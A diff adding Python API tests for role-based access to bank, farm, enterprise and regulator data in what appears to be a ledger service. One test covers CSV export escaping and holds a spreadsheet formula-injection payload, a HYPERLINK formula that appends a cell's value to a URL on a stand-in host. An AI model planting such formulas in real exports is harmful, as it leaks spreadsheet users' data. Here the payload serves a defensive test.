@@ -190,8 +190,12 @@ def test_series_for_the_city_an_account_and_a_person(node, http, city):
     stranger = next(b for b in ("bank01", "bank02", "bank03") if b not in banks)
     get(http, f"/v1/persons/{pid}", bearer(node, f"bank:{stranger}"), status=404)
     get(http, f"/v1/persons/{pid}/series", bearer(node, f"bank:{stranger}"), status=404)
-    summary = get(http, f"/v1/persons/{pid}/summary?period=2026", one_bank)
-    assert f"pid {pid}\n" in summary["summary"]
+    summary = get(http, f"/v1/persons/{pid}/summary?period=2026", one_bank)["summary"]
+    assert f"pid {pid}\n" in summary and f"\nscope bank:{banks[0]}\n" in summary
+    assert all(f"per:{other}:" not in summary for other in banks[1:])  # no other bank named
+    everyone = get(http, f"/v1/persons/{pid}/summary?period=2026", bearer(node, "regulator"))
+    assert summary.split("\nscope ")[0] == everyone["summary"].split("\naccount ")[0]  # same sums
+    get(http, f"/v1/persons/{pid}/summary?period=2026&history=true", one_bank, status=403)
     get(
         http, f"/v1/persons/{pid}/summary?period=2026", bearer(node, f"bank:{stranger}"), status=404
     )
@@ -218,6 +222,15 @@ def test_a_grade_is_explained_and_entries_are_decoded(node, http):
     assert "output_value" in sources and any(s.startswith("energy:") for s in sources)
     assert sum(r.get("co2e_g", 0) for r in sources.values()) == data["co2e_g"]
     lent = get(http, f"/v1/accounts/{firm}/grades", bearer(node, "bank:bank01"))["grades"][-1]
+    assert lent["disputes"] == []  # a dispute's reason and evidence are not the lender's
+    exchange = bearer(node, "exchange:x1")
+    get(http, f"/v1/accounts/{firm}/grades", exchange, status=404)  # an exchange trades farms
+    get(http, "/v1/enterprises", exchange, status=404)
+    assert get(http, "/v1/farms", exchange)["items"]
+    industry = node.ledger.accounts.get(firm).state.registered["industry"]
+    path = f"/v1/industries/{industry}/benchmark?period=2026-Q3"
+    assert get(http, path, bearer(node, f"ent:{firm[4:]}"))["enterprises"] >= 1
+    get(http, path, bearer(node, "bank:bank01"), status=404)
     assert "breakdown" not in lent["explanation"] and lent["explanation"]["k"] == explained["k"]
     farm = next(
         a for a in node.log.accounts("agr:") if node.ledger.accounts.get(a).state.latest_grade
@@ -294,3 +307,19 @@ def test_the_regulators_report_reflects_one_checkpoint(node, http, tmp_path):
     assert len((tmp_path / "enterprises.csv").read_text().splitlines()) == 1 + len(
         node.log.accounts("ind:")
     )
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_stay_text():
+    from projections.exports import csv_bytes
+
+    rows = [{"reason": '=HYPERLINK("http://x/?"&A2,"ok")', "n": -5, "name": "@SUM(A1)"}]
+    text = csv_bytes(rows, ("reason", "n", "name")).decode("utf-8-sig")
+    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://x/?""&A2,""ok"")",-5,\'@SUM(A1)'
+
+
+def test_a_farm_whose_code_holds_a_colon_gets_only_its_own_feed():
+    from projections.fold import owner_of
+
+    assert owner_of("agr:grain-0000:east") == "farm:grain-0000:east"
+    assert owner_of("agr:grain-0000") == "farm:grain-0000"
+    assert owner_of("per:bank01:abc") == "bank:bank01"
